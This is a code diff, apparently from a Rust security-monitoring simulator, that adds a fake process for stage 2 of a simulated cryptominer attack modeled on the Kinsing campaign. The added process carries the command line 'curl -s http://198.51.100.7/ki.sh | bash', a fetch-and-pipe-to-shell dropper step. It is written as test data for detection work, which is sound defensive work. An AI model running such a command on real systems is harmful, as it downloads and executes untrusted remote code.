@@ -740,6 +740,16 @@ pub(crate) const KDEVTMPFSI: Exe = exe(
     ROOT,
     prof(3.2, 0.02, 0.0, 2300.0, 2500.0, 0.0, 0.0),
 );
+/// `multi_stage_attack`, stage 2: the shell the miner's dropper runs (the application image's
+/// own `/bin/bash`, which nothing else on the node runs), working for a few minutes.
+pub(crate) const DROPPER_BASH: Exe = exe(
+    "/bin/bash",
+    "bash",
+    "bash",
+    "-c curl -s http://198.51.100.7/ki.sh | bash",
+    ROOT,
+    prof(0.02, 0.45, 0.0, 3.8, 8.2, 4.0, 0.5),
+);
 /// `multi_stage_attack`, stage 3: the campaign's agent, a process name never seen before.
 pub(crate) const KINSING: Exe = exe(
     "/var/tmp/.ssh/kinsing",
@@ -794,8 +804,9 @@ pub(crate) static EVIL_MINER: Workload = Workload {
 
 /// Paths that only scenarios (or their dedicated workload) may run.
 #[cfg(test)]
-pub(crate) const RESERVED: [&str; 11] = [
+pub(crate) const RESERVED: [&str; 12] = [
     KDEVTMPFSI.path,
+    DROPPER_BASH.path,
     KINSING.path,
     XMRIG.path,
     DEV_SHM_SH.path,
